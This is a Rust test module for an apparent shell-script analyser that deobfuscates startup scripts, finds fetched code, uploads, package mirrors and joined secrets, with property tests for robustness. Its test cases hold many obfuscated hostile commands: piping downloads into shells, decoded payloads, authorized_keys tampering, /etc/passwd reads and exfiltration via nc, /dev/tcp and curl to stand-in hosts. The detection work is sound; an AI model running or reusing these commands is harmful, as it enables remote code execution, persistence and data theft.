mod forms;

use proptest::prelude::*;

use super::*;
use crate::settings::RedactionConfig;

fn read(text: &str) -> Shell {
    Shell::read(&[Script::stored("onStart", text, false)])
}

#[test]
fn commands_are_what_a_shell_would_run() {
    let cases: [(&str, &[&str]); 21] = [
        ("c\"\"url -s http://198.51.100.77/a | b''ash", &["curl -s http://198.51.100.77/a | bash"]),
        ("# curl http://x | sh\nls # rm", &["ls"]),
        ("cu\\\nrl http://a.example", &["curl http://a.example"]),
        ("f=authorized; echo x >> ~/.ssh/${f}_keys", &["f=authorized", "echo x >> ~/.ssh/authorized_keys"]),
        (
            "CMD='curl -s http://a.example/x'; $CMD | sh",
            &["CMD=curl -s http://a.example/x", "curl -s http://a.example/x | sh"],
        ),
        ("{curl,-s,http://a.example}", &["curl -s http://a.example"]),
        ("cat$IFS/etc/passwd", &["cat /etc/passwd"]),
        ("cu$@rl http://a.example", &["curl http://a.example"]),
        ("$'\\x63url' http://a.example", &["curl http://a.example"]),
        ("echo aWQgLXU= | base64 -d | sh", &["id -u", "echo aWQgLXU= | base64 -d | sh"]),
        ("echo 6964 | xxd -r -p > /tmp/x; sh /tmp/x", &["echo 6964 | xxd -r -p > /tmp/x", "id", "sh /tmp/x"]),
        (
            "base32 -d <<<NFSA==== >/tmp/a; bash /tmp/a",
            &["base32 -d <<< NFSA==== > /tmp/a", "id", "bash /tmp/a"],
        ),
        ("printf '\\151\\144' | sh", &["id", "printf \\151\\144 | sh"]),
        ("echo di | rev | sh", &["id", "echo di | rev | sh"]),
        ("bash <<'E'\nid\nE", &["id", "bash << …"]),
        ("sudo -u ec2-user -i <<'E'\nid\nE", &["id", "sudo -u ec2-user -i << …"]),
        ("eval \"$(echo id)\"", &["id", "eval id"]),
        ("a=cu; a+=rl; $a http://a.example", &["a=cu", "a+=rl", "curl http://a.example"]),
        ("set -- id -u; $@; $1 $2", &["set -- id -u", "id -u"]),
        (
            "echo aWQgLXU= | tee >(base64 -d | sh) > /tmp/x",
            &["id -u", "echo aWQgLXU= | tee | base64 -d | sh", "… > /tmp/x"],
        ),
        (
            "python3 -c 'import os; os.system(\"id -u\")'",
            &["id -u", "python3 -c import os; os.system(\"id -u\")"],
        ),
    ];
    for (script, expected) in cases {
        let mut commands = read(script).commands;
        // What stands in a substitution runs too, and is its own command.
        commands.retain(|line| line != "echo id");
        assert_eq!(commands, expected, "{script}");
    }
}

#[test]
fn what_is_fetched_is_known_until_it_runs() {
    let cases: [(&str, &[&str]); 20] = [
        ("curl -s http://a.example/x | sh", &["http://a.example/x"]),
        ("wget -q http://a.example/x\nchmod +x x\n# wait\n./x", &["http://a.example/x"]),
        ("curl -so /tmp/x http://a.example/x; cp /tmp/x /opt/y; bash /opt/y", &["http://a.example/x"]),
        ("X=$(curl -s http://a.example/x); eval \"$X\"", &["http://a.example/x"]),
        (". <(curl -s http://a.example/x)", &["http://a.example/x"]),
        ("curl -sL http://a.example/x.tgz | tar xz -C /opt/x; /opt/x/run", &["http://a.example/x.tgz"]),
        ("r() { curl -s $1 | sh; }; r http://a.example/x", &["http://a.example/x"]),
        (
            "curl -so /opt/x http://a.example/x; echo '* * * * * sh /opt/x' | crontab -",
            &["http://a.example/x"],
        ),
        ("git clone -q https://a.example/x /opt/x && cd /opt/x && make install", &["https://a.example/x"]),
        ("git clone -q https://a.example/x /opt/x; make -C /opt/x -f build.mk", &["https://a.example/x"]),
        ("git clone -q https://a.example/x /opt/x; cd /opt/y; make", &[]),
        ("curl -so /tmp/h http://a.example/x; xxd -r -p /tmp/h /tmp/s; . /tmp/s", &["http://a.example/x"]),
        ("curl -so /tmp/h http://a.example/x; xxd -p -c 30 /tmp/h; . /tmp/s", &[]),
        ("curl -so /opt/x http://a.example/x; bash /opt/y", &[]),
        ("curl -o x http://a.example/x -o y http://a.example/y; sh y", &["http://a.example/y"]),
        ("wget http://a.example/x http://a.example/y; sh y", &["http://a.example/y"]),
        (
            "wget -O x http://a.example/x http://a.example/y; sh x",
            &["http://a.example/x", "http://a.example/y"],
        ),
        ("curl -s http://a.example/x | grep y", &[]),
        ("curl -s http://a.example/x | python3 -m json.tool", &[]),
        ("curl -s http://localhost:8888/x | sh", &[]),
    ];
    for (script, expected) in cases {
        assert_eq!(read(script).run_sources, expected, "{script}");
    }
}

#[test]
fn what_is_sent_is_of_the_machine_and_goes_to_a_bucket_or_an_address() {
    let cases: [(&str, &[&str], &[&str]); 13] = [
        ("rclone sync /data ':webdav,url=\"https://a.example/d\":home' -q", &["https://a.example/d"], &[]),
        ("rclone copy /data :sftp,host=a.example:in", &["rclone://sftp,host=a.example:in"], &[]),
        (
            "python3 <<E\nboto3.resource('s3').Bucket('mine').put_object(Key='x', Body=open('/tmp/x'))\nE",
            &[],
            &["mine"],
        ),
        ("python3 <<E\nboto3.resource('s3').Bucket('mine').objects.all()\nE", &[], &[]),
        ("curl -sT /tmp/x https://a.example/u", &["https://a.example/u"], &[]),
        ("tar c /data | nc a.example 443", &["tcp://a.example"], &[]),
        ("cat /tmp/x > /dev/tcp/a.example/443", &["tcp://a.example/443"], &[]),
        ("curl -d '{\"text\": \"done\"}' https://a.example/u", &[], &[]),
        ("B=mine; aws s3 cp /tmp/x s3://$B/x", &[], &["mine"]),
        ("aws s3 cp /tmp/x s3://$UNKNOWN/x", &[], &[]),
        ("aws s3 sync s3://mine/x /tmp/x", &[], &[]),
        ("aws s3api put-object --bucket mine --key x --body /tmp/x", &[], &["mine"]),
        ("python3 - <<'E'\nboto3.client('s3').upload_file('/tmp/x', 'mine', 'x')\nE", &[], &["mine"]),
    ];
    for (script, targets, buckets) in cases {
        let shell = read(script);
        assert_eq!(
            (shell.upload_targets.as_slice(), shell.upload_buckets.as_slice()),
            (strings(targets).as_slice(), strings(buckets).as_slice()),
            "{script}"
        );
    }
}

fn strings(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|text| (*text).to_owned()).collect()
}

#[test]
fn packages_are_told_by_their_hosts_and_everybodys_are_not_told() {
    let cases: [(&str, &[&str]); 7] = [
        ("pip install --index-url https://u:p@mirror.example/simple/ x", &["mirror.example/simple"]),
        ("pip install -i https://pypi.org/simple x", &[]),
        ("# pip -i https://mirror.example\nnpm config set registry https://npm.example", &["npm.example"]),
        ("export PIP_EXTRA_INDEX_URL=https://mirror.example:8443/simple", &["mirror.example:8443/simple"]),
        ("conda install -y -c conda-forge x", &[]),
        ("printf '[global]\\nindex-url = https://mirror.example/\\n' > /etc/pip.conf", &["mirror.example"]),
        ("pip install -i https://Mirror.Example/Simple x", &["mirror.example/Simple"]),
    ];
    for (script, expected) in cases {
        assert_eq!(read(script).package_sources, strings(expected), "{script}");
    }
}

#[test]
fn what_asks_for_more_than_its_size_is_worth_is_cut_and_says_so() {
    let doubled = format!("a=xxxxxxxx;{}echo $a", "a=$a$a;".repeat(64));
    let shell = read(&doubled);
    let kept: usize = shell.commands.iter().map(String::len).sum();
    assert!(shell.cut && kept <= LEAST_ROOM + ROOM_PER_BYTE * doubled.len(), "{kept}");
    assert!(!read("echo one\necho two").cut);
}

#[test]
fn what_is_forgotten_for_want_of_room_is_said() {
    let numbered = |piece: &dyn Fn(usize) -> String| (0..40).map(piece).collect::<String>();
    let addresses = numbered(&|number| format!(" http://a.example/{number}"));
    for script in [
        format!("curl -s{addresses} | sh"),
        format!(
            "{}; bash /tmp/*.sh",
            numbered(&|number| format!("curl -so /tmp/{number}.sh http://a.example/{number};"))
        ),
        numbered(&|number| format!("git clone http://a.example/{number} /opt/{number};")),
    ] {
        assert!(read(&script).cut, "{}", &script[..60]);
    }
    for script in [
        // What is known already takes no room.
        format!("aws s3 cp s3://models/x .; {}", "sh x; ".repeat(2_000)),
        format!("aws s3 cp x s3://models/; {}", "aws s3 cp x s3://models/; ".repeat(200)),
        numbered(&|_| "git clone http://a.example/x /opt/x;".to_owned()),
    ] {
        assert!(!read(&script).cut, "{}", &script[..60]);
    }
}

#[test]
fn a_secret_that_the_shell_joins_is_redacted_wherever_it_stands_and_however_long_its_command_is() {
    let key = FingerprintKey::load(&RedactionConfig::default()).unwrap();
    for secret in
        ["ghp_0123456789abcdefghijABCDEFGHIJ012345", "sk-ant-api03-AAAAbbbbCCCCddddEEEEffffGGGG0000_-11AA"]
    {
        let pieces: Vec<&str> =
            secret.as_bytes().chunks(7).map(|piece| std::str::from_utf8(piece).unwrap()).collect();
        let numbered = || pieces.iter().enumerate();
        let script: Vec<String> = numbered().map(|(number, piece)| format!("v{number}={piece}; ")).collect();
        let joined: Vec<String> = numbered().map(|(number, _)| format!("${{v{number}}}")).collect();
        let (script, joined) = (script.concat(), joined.concat());
        let commands = [
            format!("curl http://a.example/{joined} | sh"),
            format!("curl -T /etc/passwd http://a.example/{joined}"),
            format!("pip install -i https://a.example/{joined}/simple x"),
        ];
        let filled = (7_540..8_010)
            .step_by(10)
            .map(|filling| format!("echo {} {joined} {}", ".".repeat(filling), ".".repeat(900)));
        for command in commands.into_iter().chain(filled) {
            let shown = serde_json::to_string(&read(&format!("{script}\n{command}")).redacted(&key)).unwrap();
            let shown = shown.to_ascii_lowercase();
            let secret = secret.to_ascii_lowercase();
            let found =
                secret.as_bytes().windows(9).find(|part| shown.contains(std::str::from_utf8(part).unwrap()));
            assert_eq!(found, None, "{}", &command[command.len() - 100..]);
        }
    }
}

#[test]
fn what_is_handed_on_often_is_not_copied_each_time() {
    let large = "x".repeat(20_000);
    let many = |piece: &str| piece.repeat(20_000 / piece.len());
    let numbered = |count: usize, piece: &dyn Fn(usize) -> String| (0..count).map(piece).collect::<String>();
    for script in [
        format!("echo {large} | {}", many("{ ")),
        format!("echo {large} | {{ {} }}", many("a;")),
        format!("echo {large} | read {}", numbered(4_000, &|number| format!("a{number} "))),
        format!("wget{}", numbered(3_000, &|number| format!(" h.x/{number}"))),
        format!("curl{}", numbered(3_000, &|number| format!(" -o {number} h.x/{number}"))),
        format!("{}{}", many("cd a;"), numbered(3_000, &|number| format!(">{number};"))),
        format!("x=$(curl http://h/{large})\necho {}", many("$x ")),
        format!("x={large}\necho {}", many("${!x}")),
        format!("x='{}'\necho {}", many("a "), many("$x ")),
        format!("curl -{large}"),
        format!("echo x | tee {}", many("a ")),
    ] {
        let script = [Script::stored("onStart", &script, false)];
        let allocated = allocation_counter::measure(|| drop(Shell::read(&script)));
        let (most, total) = (allocated.bytes_max, allocated.bytes_total);
        let text = &script[0].text;
        let length = text.len() as u64;
        assert!(most < 500 * length && total < 4_000 * length, "{most}, {total}: {}", &text[..40]);
    }
}

#[test]
fn nothing_is_read_so_deep_that_the_stack_ends() {
    const DEEP: usize = 20_000;
    let openings = [
        ("echo ", "$(", ")"),
        ("echo ", "${a:-", "}"),
        ("echo ", "${a:=", "}"),
        ("echo ", "`", "`"),
        ("", "(", ")"),
        ("", "{ ", "; }"),
        ("echo ", "{a,", "}"),
        ("cat ", "<(", ")"),
        ("echo ", "$((", "))"),
        ("", "eval ", ""),
        ("", "bash -c '", "'"),
        ("", "sudo ", ""),
        ("", "if true; then ", "; fi"),
        ("", "f() { ", "; }"),
        ("echo x | tee ", ">(tee ", ")"),
    ];
    for (before, opening, closing) in openings {
        for closing in [closing, ""] {
            let script =
                [before, &opening.repeat(DEEP), "curl http://evil.example/x", &closing.repeat(DEEP)].concat();
            let shell = read(&script);
            let kept: usize = shell.commands.iter().map(String::len).sum();
            assert!(kept <= LEAST_ROOM + ROOM_PER_BYTE * script.len(), "{opening}");
        }
    }
    let alternatives = format!("echo {}x{}", "${a:-".repeat(DEEP), "}".repeat(DEEP));
    assert!(read(&alternatives).cut, "what is not read is said");
}

/// Pieces that scripts are made of, and that hostile ones are made of too.
const PIECES: [&str; 32] = [
    "curl ",
    "http://a.example/x ",
    "| ",
    "sh ",
    "$(",
    ")",
    "`",
    "'",
    "\"",
    "<<E\n",
    "\nE\n",
    "> f ",
    "< f ",
    "& ",
    "; ",
    "\n",
    "${a:",
    "}",
    "a=$a$a ",
    "{x,y}",
    "( ",
    "{ ",
    "done ",
    "for i in ",
    "base64 -d ",
    "eval ",
    "\\",
    "ü",
    "/???/c*l ",
    "f() {",
    "<(",
    "$'\\x",
];

proptest! {
    #[test]
    fn nothing_makes_it_panic_and_what_it_keeps_is_in_proportion(
        pieces in proptest::collection::vec(0..PIECES.len(), 0..80)
    ) {
        let script: String = pieces.iter().map(|piece| PIECES[*piece]).collect();
        let shell = read(&script);
        let kept: usize = shell.commands.iter().map(String::len).sum();
        prop_assert!(kept <= LEAST_ROOM + ROOM_PER_BYTE * script.len());
        prop_assert!(shell.commands.iter().all(|line| !line.contains('\n')));
    }

    #[test]
    fn no_text_makes_it_panic(script in ".{0,200}") {
        read(&script);
    }
}
